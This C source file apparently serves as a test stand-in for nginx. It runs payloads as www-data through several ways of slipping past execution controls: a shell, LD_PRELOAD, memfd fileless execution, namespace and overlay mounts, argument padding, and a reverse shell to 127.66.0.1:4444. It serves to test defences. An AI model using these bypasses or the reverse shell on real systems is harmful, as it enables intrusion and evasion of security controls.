// SPDX-License-Identifier: Apache-2.0
// Stands in for a web server: copied to /usr/sbin/nginx, it has a worker, and the worker starts what an intruder asks
// for: by a shell as PHP's system() does, or in ways that need code of one's own.
//   nginx WAY MARKER: the way's further arguments come line by line from standard input, so that the server's own start
//   does not say what will be asked of it.
// Says what became of it: "refused ERRNO", "killed SIGNAL", "exit CODE" or "hangs".
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAYLOAD "/srv/app/payload"
enum { LIMIT_S = 15, REFUSED = 125 };

static char *environment[] = {"PATH=/usr/sbin:/usr/bin", NULL};
static char *preloaded[] = {"PATH=/usr/sbin:/usr/bin", "LD_PRELOAD=/tmp/x/library.so", NULL};

static void www_data(void)
{
    if (setresgid(33, 33, 33) < 0 || setresuid(33, 33, 33) < 0)
        exit(100);
}

static void copy(int to)
{
    static char bytes[65536];
    int from = open(PAYLOAD, O_RDONLY | O_CLOEXEC);
    for (ssize_t n; (n = read(from, bytes, sizeof bytes)) > 0;)
        if (write(to, bytes, (size_t)n) != n)
            exit(101);
    close(from);
}

static void put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        exit(102);
    close(fd);
}

// ---- ways; argv[0] is the marker. Each returns when its exec was refused.

static void way_shell(char **argv)
{
    www_data();
    execle("/bin/sh", "sh", "-c", argv[1], (char *)NULL, environment);
}

static void way_exec(char **argv)
{
    www_data();
    execve(argv[1], argv + 1, environment);
}

static void way_preload(char **argv)
{
    www_data();
    execve(argv[1], argv + 1, preloaded);
}

static void way_empty_path(char **argv)
{
    char *args[] = {"worker", argv[0], NULL};
    www_data();
    int fd = open("/tmp/x/payload", O_PATH | O_CLOEXEC);
    execveat(fd, "", args, environment, AT_EMPTY_PATH);
}

static void way_memfd(char **argv)
{
    char *args[] = {"worker", argv[0], NULL};
    www_data();
    int fd = memfd_create("worker", MFD_CLOEXEC);
    copy(fd);
    fexecve(fd, args, environment);
}

static void way_own_tmpfs(char **argv)
{
    char *args[] = {"./payload", argv[0], NULL};
    www_data();
    prctl(PR_SET_DUMPABLE, 1); // as a process that was never root
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        exit(103);
    put("/proc/self/setgroups", "deny");
    put("/proc/self/uid_map", "33 33 1");
    put("/proc/self/gid_map", "33 33 1");
    if (mount("mine", "/mnt", "tmpfs", 0, NULL) < 0 || chdir("/mnt") < 0)
        exit(104);
    int fd = open("payload", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    copy(fd);
    close(fd);
    execve("./payload", args, environment);
}

// As root: what matters is that the file below is on a guarded file system and the overlay is new.
static void way_overlay(char **argv)
{
    char *args[] = {"/mnt/payload", argv[0], NULL};
    if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 ||
        mount("mine", "/mnt", "overlay", MS_RDONLY, "lowerdir=/srv/app:/srv/empty") < 0)
        exit(105);
    execve(args[0], args, environment);
}

// 2 MB of harmless strings, and only then the one that matters.
static void way_long(char **argv)
{
    enum { STRINGS = 32, LENGTH = 65535 };
    static char filler[LENGTH + 1], *args[STRINGS + 4];
    struct rlimit limit = {64 << 20, 64 << 20};
    setrlimit(RLIMIT_STACK, &limit);
    www_data();
    memset(filler, 'x', LENGTH);
    args[0] = "payload";
    args[1] = argv[0];
    for (int i = 0; i < STRINGS; i++)
        args[2 + i] = filler;
    args[2 + STRINGS] = "/dev/tcp/127.66.0.1/4444";
    execve(PAYLOAD, args, environment);
}

static void way_socket_shell(char **argv)
{
    char *named[] = {"PATH=/usr/sbin:/usr/bin", "M=socket_shell", NULL};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
    (void)argv;
    www_data();
    inet_pton(AF_INET, "127.66.0.1", &to.sin_addr);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0)
        exit(106);
    for (int i = 0; i < 3; i++)
        dup2(fd, i);
    execle("/bin/sh", "sh", (char *)NULL, named);
}

static const struct way {
    const char *name;
    void (*run)(char **argv);
} ways[] = {
    {"shell", way_shell},           {"exec", way_exec},   {"preload", way_preload},
    {"empty_path", way_empty_path}, {"memfd", way_memfd}, {"own_tmpfs", way_own_tmpfs},
    {"overlay", way_overlay},       {"long", way_long},   {"socket_shell", way_socket_shell},
};

// The worker: starts the intruder's process and waits for it.
static int worker(const struct way *way, char **argv)
{
    int channel[2], status, error = 0;
    if (pipe2(channel, O_CLOEXEC) < 0)
        return 1;
    pid_t pid = fork();
    if (pid == 0) {
        int report = fcntl(channel[1], F_DUPFD_CLOEXEC, 10);
        way->run(argv);
        error = errno;
        _exit(write(report, &error, sizeof error) == sizeof error ? REFUSED : 1);
    }
    close(channel[1]);
    for (int i = 0; waitpid(pid, &status, WNOHANG) == 0; i++) {
        if (i == LIMIT_S * 50) {
            kill(pid, SIGKILL);
            puts("hangs");
            return 1;
        }
        poll(NULL, 0, 20);
    }
    if (WIFSIGNALED(status))
        printf("killed %d\n", WTERMSIG(status));
    else if (read(channel[0], &error, sizeof error) == sizeof error)
        printf("refused %s\n", strerrorname_np(error));
    else
        printf("exit %d\n", WEXITSTATUS(status));
    return 0;
}

// The marker, then the request's lines.
static char **request(char *marker)
{
    static char text[4096], *list[32];
    size_t n = fread(text, 1, sizeof text - 1, stdin), at = 0;
    list[at++] = marker;
    for (char *line = text; line < text + n && at + 1 < sizeof list / sizeof *list; at++) {
        list[at] = line;
        line = strchrnul(line, '\n');
        *line++ = 0;
    }
    return list;
}

int main(int argc, char **argv)
{
    const struct way *way = NULL;
    int status;
    for (size_t i = 0; argc > 2 && i < sizeof ways / sizeof *ways; i++)
        if (strcmp(ways[i].name, argv[1]) == 0)
            way = &ways[i];
    if (!way)
        return 2;
    char **arguments = request(argv[2]);
    poll(NULL, 0, 700); // a server is attacked when it has run for a while
    pid_t pid = fork();
    if (pid == 0) {
        status = worker(way, arguments);
        fflush(stdout);
        _exit(status);
    }
    waitpid(pid, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
